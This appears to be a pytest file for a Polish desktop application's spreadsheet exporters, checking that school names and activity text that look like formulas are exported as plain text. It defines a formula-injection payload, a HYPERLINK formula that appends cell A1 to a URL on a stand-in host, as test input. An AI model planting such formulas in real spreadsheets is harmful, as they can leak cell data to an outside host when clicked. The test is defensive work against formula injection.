"""Text that looks like a formula ("=HYPERLINK(…)") is exported as text, never as a formula that would run."""

from __future__ import annotations

import datetime as dt

from openpyxl import load_workbook

from tests.hdr_support import PERIOD, stage2
from wsparcie_desktop.exporters.hdr_xlsx import export_hdr_xlsx
from wsparcie_desktop.exporters.schools_xlsx import export_schools_xlsx
from wsparcie_desktop.services import hdr, schools
from wsparcie_desktop.services.hdr import ActivityData, HdrData

HOSTILE = '=HYPERLINK("http://example.invalid/?x="&A1,"Kliknij")'


def test_school_names_and_notes_that_look_like_formulas_stay_text(db, jst_id, tmp_path):
    schools.save_school(db, jst_id, schools.SchoolData(name=HOSTILE, notes="=1+1", pupils=10, teachers_fte="2"))
    schools.save_school(db, jst_id, schools.SchoolData(name="Szkoła Podstawowa w Zalesiu", pupils=5))
    book = load_workbook(export_schools_xlsx(db, jst_id, tmp_path / "szkoly.xlsx"))
    sheet = book.active
    cells = {cell.value: cell for row in sheet.iter_rows() for cell in row if cell.value is not None}
    assert cells[HOSTILE].data_type == "s"
    assert cells["=1+1"].data_type == "s"
    formulas = [cell.value for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
    assert formulas and all(value.startswith("=SUM(") for value in formulas)


def test_hdr_activity_text_that_looks_like_a_formula_stays_text(db, jst_id, tmp_path):
    s2 = stage2(db, jst_id)
    hdr_id = hdr.save_hdr(db, s2.process_id, HdrData(*PERIOD, ore_form_code="dobra_praktyka")).id
    hdr.save_activity(
        db,
        hdr_id,
        ActivityData(
            name=HOSTILE,
            starts_on=dt.date(2026, 9, 1),
            ends_on=dt.date(2026, 9, 30),
            expected_result="=2+2",
            financing="bez_kosztow",
        ),  # fmt: skip
    )
    book = load_workbook(export_hdr_xlsx(db, s2.process_id, tmp_path / "hdr.xlsx"))
    for sheet in book.worksheets:
        assert not [cell.coordinate for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
    values = {cell.value for row in book.worksheets[0].iter_rows() for cell in row}
    assert HOSTILE in values and "=2+2" in values
